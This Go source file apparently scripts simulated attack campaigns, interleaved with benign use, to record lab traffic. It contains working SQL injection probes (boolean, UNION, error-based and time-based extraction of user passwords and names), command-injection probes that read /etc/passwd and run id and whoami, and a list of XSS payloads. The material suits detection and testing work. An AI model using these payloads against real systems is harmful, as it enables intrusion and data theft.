package main

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"time"
)

// Programs that attack as tools do: they ask, compare the answers, and go on from what they have learned. Unlike tools they are
// always there, and ask the same in each run.

// program is what one looks for, and where.
type program struct {
	name  string
	value string                     // that is ordinary there
	ask   func(value string) request // for a value
	run   func(p *prober)
}

func programs() []program {
	query := func(prefix string) func(string) request {
		return func(value string) request { return request{target: prefix + url.QueryEscape(value)} }
	}
	inBody := func(target, before string) func(string) request {
		return func(value string) request {
			return request{method: http.MethodPost, target: target, kind: form, body: before + url.QueryEscape(value)}
		}
	}
	return []program{
		{"asking a database, a number", "1", query("/item?id="), (*prober).askDatabase},
		{"asking a database, a text", "lamp", query("/search?q="), (*prober).askDatabase},
		{"asking a database, a form", "lamp", inBody("/orders", "page=1&name="), (*prober).askDatabase},
		{"asking a database, a cookie", "v-1001", func(value string) request {
			return request{target: "/", headers: [][2]string{{"Cookie", "visitor=" + url.PathEscape(value)}}}
		}, (*prober).askDatabase},
		{"asking a database, an API", "lamp", func(value string) request {
			return request{method: http.MethodPost, target: "/api/items", kind: "application/json", body: `{"limit":20,"filter":` + jsonStrings[0](value) + `}`}
		}, (*prober).askDatabase},
		{"having commands run, a name", "db.example.com", query("/ping?addr="), (*prober).runCommands},
		{"having commands run, a form", "a", inBody("/convert", "to=png&name="), (*prober).runCommands},
		{"having commands run, without output", "a", query("/backup?name="), (*prober).runCommands},
		{"placing scripts, an attribute", "red", query("/profile?name=Ann&color="), (*prober).placeScripts},
		{"placing scripts, a text", "Ann", query("/profile?color=red&name="), (*prober).placeScripts},
		{"placing scripts, an error", "hello", query("/error?msg="), (*prober).placeScripts},
	}
}

// prober is a program at work.
type prober struct {
	*session
	program
	ordinary answer
	count    int // of the numbers that it has used
}

// answer is what it compares.
type answer struct {
	status int
	body   string // without what it repeats of the question
	took   time.Duration
}

func (a answer) isLike(b answer) bool { return a.status == b.status && a.body == b.body }

// try asks for the ordinary value with something behind it.
func (p *prober) try(behind string) answer {
	value := p.value + behind
	begun := p.clock.now()
	status, _, body := p.send(probing, "", p.ask(value))
	for _, echo := range []string{value, strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&#34;", "'", "&#39;").Replace(value)} {
		body = strings.ReplaceAll(body, echo, "")
	}
	return answer{status, strings.ReplaceAll(body, p.value, ""), p.clock.now().Sub(begun)}
}

// number is one that it has not used yet.
func (p *prober) number() int {
	p.count++
	return 1000 + 37*p.count%7919
}

// frame is what stands around a piece of SQL so that the statement stays whole.
type frame struct{ before, behind string }

// askDatabase looks for a frame by conditions that are true and false, reads by others, counts columns by the order of rows and
// by UNION, and has errors and waits tell.
func (p *prober) askDatabase() {
	for _, spoiling := range []string{`'`, `"`, `)`, `'(`} {
		p.try(spoiling)
	}
	f, ok := p.findFrame()
	if !ok {
		p.waitInDatabase(frame{"", ""})
		p.waitInDatabase(frame{"'", "-- -"})
		return
	}
	holds := func(condition string) bool {
		return p.try(f.before + " AND " + condition + f.behind).isLike(p.ordinary)
	}
	low, high := 31, 127
	for high-low > 1 {
		if middle := (low + high) / 2; holds(fmt.Sprintf("(SELECT unicode(substr(password,1,1)) FROM users LIMIT 1)>%d", middle)) {
			low = middle
		} else {
			high = middle
		}
	}
	columns := p.countColumns(f)
	for n := range columns {
		cells := strings.Split(strings.Repeat("NULL,", columns-1)+"NULL", ",")
		p.try(fmt.Sprintf("%s UNION ALL SELECT %s-- -", f.before, strings.Join(cells, ",")))
		cells[n] = "CHAR(113,107,118,113)||COALESCE(name,' ')||CHAR(113,120,106,113)"
		p.try(fmt.Sprintf("%s UNION ALL SELECT %s FROM users-- -", f.before, strings.Join(cells, ",")))
	}
	p.try(fmt.Sprintf("%s AND extractvalue(%d,'~'||(SELECT name FROM users LIMIT 1)||'~')%s", f.before, p.number(), f.behind))
	p.waitInDatabase(f)
}

// findFrame finds out how a condition is made part of the statement.
func (p *prober) findFrame() (frame, bool) {
	for _, f := range []frame{{"", ""}, {")", " AND (6=6"}, {"'", " AND 'kq'='kq"}, {"'", "-- -"}, {"')", " AND ('kq'='kq"}, {`"`, ` AND "kq"="kq`}} {
		works := true
		for range 2 {
			n := p.number()
			yes := p.try(fmt.Sprintf("%s AND %d=%d%s", f.before, n, n, f.behind))
			no := p.try(fmt.Sprintf("%s AND %d=%d%s", f.before, n, p.number(), f.behind))
			if works = yes.isLike(p.ordinary) && !no.isLike(yes); !works {
				break
			}
		}
		if works {
			return f, true
		}
	}
	return frame{}, false
}

// countColumns counts them by the number of the last one by which rows can be ordered.
func (p *prober) countColumns(f frame) int {
	orders := func(n int) bool {
		return p.try(fmt.Sprintf("%s ORDER BY %d-- -", f.before, n)).status == p.ordinary.status && n < 1000
	}
	if !orders(1) || orders(p.number()) {
		return 1
	}
	low, high := 1, 10
	for high-low > 1 {
		if middle := (low + high) / 2; orders(middle) {
			low = middle
		} else {
			high = middle
		}
	}
	return low
}

// waitInDatabase has a condition that holds make the database wait, and others not.
func (p *prober) waitInDatabase(f frame) {
	for _, second := range []int{1, 2} {
		n := p.number()
		for _, other := range []int{n, n + 4, n} {
			p.try(fmt.Sprintf("%s AND 0=(SELECT CASE WHEN (%d=%d) THEN sleep(%d) ELSE 0 END)%s", f.before, n, other, second, f.behind))
		}
	}
}

// runCommands looks for what ends a command and begins another one, by words that a shell puts together and by waits for as long
// as these are, and reads by the latter.
func (p *prober) runCommands() {
	for _, s := range []frame{{";", ""}, {"|", ""}, {"&&", ""}, {"$(", ")"}, {"'; ", ";'"}, {"' | ", " #"}} {
		a, b := p.number(), p.number()
		const tag = "XQVD"
		printed := p.try(fmt.Sprintf("%secho %s$((%d+%d))$(echo %s)%s%s", s.before, tag, a, b, tag, tag, s.behind))
		if strings.Contains(printed.body, fmt.Sprint(tag, a+b, tag, tag)) {
			for _, command := range []string{"id", "uname -a", "cat /etc/passwd"} {
				p.try(s.before + command + s.behind)
			}
			return
		}
		isLong := func(command string, length int) bool {
			return p.try(fmt.Sprintf("%sw=$(echo $(%s));n=${#w};if [ %d -ne $n ];then sleep 0;else sleep 1;fi%s", s.before, command, length, s.behind)).took >= time.Second
		}
		isCertain := func(command string, length int) bool {
			for range 2 {
				if !isLong(command, length) {
					return false
				}
			}
			return true
		}
		if !isLong("echo "+tag, len(tag)+1) && isCertain("echo "+tag, len(tag)) {
			for n := range 9 {
				if isCertain("whoami", n) {
					return
				}
			}
		}
	}
}

// placeScripts looks for where an input stands in a page and is not escaped, by handlers and tags of many forms.
func (p *prober) placeScripts() {
	for _, script := range []string{
		`"><script>prompt(4711)</script>`, `'"><img src=q onerror=prompt(4711)>`, `" onmouseover=prompt(4711) q="`, `' onmouseover=prompt(4711) q='`, `"><svg/onload=prompt(4711)//`,
		`" autofocus onfocus="prompt(4711)`, `</title><script>prompt(4711)</script>`, `<details open ontoggle=prompt(4711)>`, `"><input autofocus onfocus=prompt(4711)>`, `javascript:prompt(4711)`,
		`"><a href=javascript:prompt(4711)>q</a>`, `<b>4711</b>`, "\"\tonpointerenter\t=\tprompt(4711)\tq=\"", `"><marquee onstart=prompt(4711)>q</marquee>`,
	} {
		p.try(script)
	}
}

// byProgram records the campaigns of programs, with ordinary use before and between them.
func byProgram(dir string) (recording, error) {
	return recorded(dir, "programs", newSetClock(), func(l *lab, _ string) {
		l.benignUse(300)
		for _, c := range programs() {
			both(func(weak bool) {
				p := &prober{session: l.visit(weak, variant(c.name, weak), l.newClient("198.21"), golang), program: c}
				p.ordinary = p.try("")
				p.try("")
				c.run(p)
				l.benignUse(20)
			})
		}
	})
}
